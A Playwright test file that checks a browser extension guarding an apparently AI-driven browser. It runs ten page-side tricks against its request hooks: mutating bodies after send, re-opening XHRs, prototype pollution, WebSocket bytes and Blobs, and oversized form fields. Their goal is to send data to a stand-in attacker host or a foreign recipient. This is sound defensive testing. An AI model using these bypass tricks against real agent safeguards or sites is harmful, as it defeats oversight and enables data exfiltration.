import { expect, test, type Page } from '@playwright/test';
import { launchAgentBrowser, type AgentBrowser } from '../src/harness';
import { buildExtension } from './fixtures/extension';
import { startTestServer, type TestServer } from './fixtures/server';
import { ALLOWED_HOST, ALLOWED_RECIPIENT, ATTACKER_HOST, FOREIGN_RECIPIENT, VECTOR_POLICY } from './vectors';

/**
 * Tricks a page plays on the MAIN-world hooks so that what goes differs from what was checked (found by an
 * adaptive review, 2026-12-01): a value read twice (an object whose toString answers differently, a body
 * changed after the call), a request re-opened while it waits, a String method replaced, a WebSocket message
 * in a form the hook did not read (bytes, a Blob), a form whose fields run past the part read, accessors on
 * Object.prototype that drop a proposal's body or forge the answer's rewrite. Judged by the
 * test server's log: with the extension, nothing naming the foreign recipient or carrying the code reaches
 * a server; without it (negative control), every trick does.
 */

type Args = { allowed: string; attacker: string; bob: string; eve: string };
/** `run` plays the trick; `direct` does plainly what the trick is after (the negative control's proof that it reaches a server). */
type Trick = { name: string; run: (a: Args) => unknown; direct: (a: Args) => unknown };

const img = ({ attacker }: Args) => {
  const image = new Image();
  image.src = `${attacker}/direct/c482913.gif`;
  document.body.append(image);
};
const xhrToEve = ({ allowed, eve }: Args) => {
  const xhr = new XMLHttpRequest();
  xhr.open('POST', `${allowed}/direct`);
  xhr.send(JSON.stringify({ to: eve }));
};

const TRICKS: Trick[] = [
  {
    name: 'img.src from an object whose toString changes',
    run: ({ allowed, attacker }) => {
      let n = 0;
      const img = new Image();
      img.src = { toString: () => (n++ === 0 ? `${allowed}/pixel.gif` : `${attacker}/tostring/c482913.gif`) } as unknown as string;
      document.body.append(img);
    },
    direct: img,
  },
  {
    name: 'img.src after String.prototype.trim is replaced',
    run: ({ attacker }) => {
      String.prototype.trim = () => '';
      const img = new Image();
      // Carries more than a dependency load to a site the task does not name may (issue 37: a load with no
      // session data is a page's dependency and loads; src/background/floor/dnr.ts, MAX_DEPENDENCY_PATH).
      img.src = `${attacker}/trim/${'t482913-session-'.repeat(7)}.gif`;
      document.body.append(img);
    },
    direct: img,
  },
  {
    name: 'XHR body (a typed array) changed after send',
    run: ({ allowed, bob, eve }) => {
      const bytes = new TextEncoder().encode(JSON.stringify({ to: bob, pad: '.'.repeat(eve.length - bob.length) }));
      const xhr = new XMLHttpRequest();
      xhr.open('POST', `${allowed}/xhr-bytes`);
      xhr.setRequestHeader('content-type', 'application/json');
      xhr.send(bytes);
      bytes.set(new TextEncoder().encode(JSON.stringify({ to: eve, pad: '' })));
    },
    direct: xhrToEve,
  },
  {
    name: 'XHR re-opened to another method and path while it waits',
    run: ({ allowed, bob }) => {
      const xhr = new XMLHttpRequest();
      xhr.open('POST', `${allowed}/checked`);
      xhr.send(JSON.stringify({ to: bob }));
      xhr.open('DELETE', `${allowed}/reopened/all-messages`);
    },
    direct: ({ allowed }) => {
      const xhr = new XMLHttpRequest();
      xhr.open('DELETE', `${allowed}/reopened/all-messages`);
      xhr.send();
    },
  },
  {
    name: 'sendBeacon body (a typed array) changed after the call',
    run: ({ allowed, bob, eve }) => {
      const bytes = new TextEncoder().encode(JSON.stringify({ to: bob, pad: '.'.repeat(eve.length - bob.length) }));
      navigator.sendBeacon(`${allowed}/beacon-bytes`, bytes);
      bytes.set(new TextEncoder().encode(JSON.stringify({ to: eve, pad: '' })));
    },
    direct: ({ allowed, eve }) => navigator.sendBeacon(`${allowed}/direct-beacon`, JSON.stringify({ to: eve })),
  },
  {
    name: 'WebSocket message sent as bytes',
    run: ({ allowed, eve }) => {
      const socket = new WebSocket(`${allowed.replace(/^http/, 'ws')}/ws-bytes`);
      socket.onopen = () => socket.send(new TextEncoder().encode(JSON.stringify({ to: eve })));
    },
    direct: ({ allowed, eve }) => {
      const socket = new WebSocket(`${allowed.replace(/^http/, 'ws')}/ws-direct`);
      socket.onopen = () => socket.send(JSON.stringify({ to: eve }));
    },
  },
  {
    name: 'WebSocket message sent as a Blob',
    run: ({ allowed, eve }) => {
      const socket = new WebSocket(`${allowed.replace(/^http/, 'ws')}/ws-blob`);
      socket.onopen = () => socket.send(new Blob([JSON.stringify({ to: eve })], { type: 'application/json' }));
    },
    direct: ({ allowed, eve }) => {
      const socket = new WebSocket(`${allowed.replace(/^http/, 'ws')}/ws-direct`);
      socket.onopen = () => socket.send(JSON.stringify({ to: eve }));
    },
  },
  {
    name: 'a setter on Object.prototype.body swallows the body of the proposal',
    run: ({ allowed, eve }) => {
      Object.defineProperty(Object.prototype, 'body', { set() {}, get() { return undefined; }, configurable: true });
      void fetch(`${allowed}/proto-body`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to: eve }) });
    },
    direct: xhrToEve,
  },
  {
    name: 'a getter on Object.prototype.rewrite answers in place of the Minimizer',
    run: ({ allowed, bob, eve }) => {
      const body = JSON.stringify({ to: eve });
      Object.defineProperty(Object.prototype, 'rewrite', { get: () => ({ body }), configurable: true });
      void fetch(`${allowed}/proto-rewrite`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to: bob }) });
    },
    direct: xhrToEve,
  },
  {
    name: 'form whose fields run past the part read (a recipient after a 16 KB field)',
    run: ({ allowed, bob, eve }) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${allowed}/compose`;
      for (const [name, value] of [['to', bob], ['body', 'x'.repeat(17_000)], ['cc', eve]] as const) {
        const input = document.createElement('input');
        input.name = name;
        input.value = value;
        form.append(input);
      }
      document.body.append(form);
      form.submit();
    },
    direct: ({ allowed, eve }) => fetch(`${allowed}/direct`, { method: 'POST', body: new URLSearchParams({ cc: eve }) }),
  },
];

let server: TestServer;
test.beforeAll(async () => {
  server = await startTestServer();
  server.setPage('/app', '<!doctype html><title>app</title><p>app</p>');
});
test.afterAll(async () => server.close());

/** A logged body as text, form-encoded bodies decoded. */
function readable(body: string): string {
  try {
    return decodeURIComponent(body.replaceAll('+', ' '));
  } catch {
    return body;
  }
}

/** How long a trick's requests get to reach a server. */
const WATCH_MS = 2_500;

/** Runs every trick in a fresh page; returns the tricks whose forbidden effect reached a server. */
async function play(browser: AgentBrowser, how: 'run' | 'direct' = 'run'): Promise<string[]> {
  const reached: string[] = [];
  for (const trick of TRICKS) {
    const before = server.requests().length;
    const page: Page = await browser.context.newPage();
    await page.goto(`${server.origin(ALLOWED_HOST)}/app`);
    await page.evaluate(`(${trick[how].toString()})(${JSON.stringify({ allowed: server.origin(ALLOWED_HOST), attacker: server.origin(ATTACKER_HOST), bob: ALLOWED_RECIPIENT, eve: FOREIGN_RECIPIENT })})`);
    const forbidden = () => server.requests().slice(before).some((r) => r.host.startsWith(ATTACKER_HOST) || readable(r.body).includes(FOREIGN_RECIPIENT) || r.path.startsWith('/reopened'));
    // A trick played with the extension is watched for the whole window (what has not arrived by then was
    // stopped); the negative control only has to show the effect arrives, so it ends once it has.
    if (how === 'run') await page.waitForTimeout(WATCH_MS);
    else for (const until = Date.now() + WATCH_MS; Date.now() < until && !forbidden(); ) await page.waitForTimeout(50);
    await page.close();
    if (forbidden()) reached.push(trick.name);
  }
  return reached;
}

for (const variant of ['full'] as const) {
  test(`${variant} build: what goes is what was checked`, async () => {
    test.setTimeout(120_000);
    const browser = await launchAgentBrowser({ extensionPath: buildExtension(variant), askTimeoutSeconds: 5 });
    try {
      await browser.setPolicy(VECTOR_POLICY);
      expect(await play(browser)).toEqual([]);
      // What the page may send still goes, as it was read: a Blob message to the allowed recipient, bytes and order kept.
      const page = await browser.context.newPage();
      await page.goto(`${server.origin(ALLOWED_HOST)}/app`);
      await page.evaluate(
        ({ url, bob }) => {
          const socket = new WebSocket(url);
          socket.onopen = () => {
            socket.send(new Blob([JSON.stringify({ to: bob, n: 1 })]));
            socket.send(JSON.stringify({ to: bob, n: 2 }));
          };
        },
        { url: `${server.origin(ALLOWED_HOST).replace(/^http/, 'ws')}/ws-allowed-blob`, bob: ALLOWED_RECIPIENT },
      );
      await expect
        .poll(() => server.requests().filter((r) => r.channel === 'websocket-message' && r.path === '/ws-allowed-blob').map((r) => r.body))
        .toEqual([JSON.stringify({ to: ALLOWED_RECIPIENT, n: 1 }), JSON.stringify({ to: ALLOWED_RECIPIENT, n: 2 })]);
    } finally {
      await browser.close();
    }
  });
}

test('negative control: without the extension, what each trick is after reaches a server', async () => {
  test.setTimeout(120_000);
  const browser = await launchAgentBrowser({ extension: false });
  try {
    expect(await play(browser, 'direct')).toEqual(TRICKS.map((t) => t.name));
  } finally {
    await browser.close();
  }
});
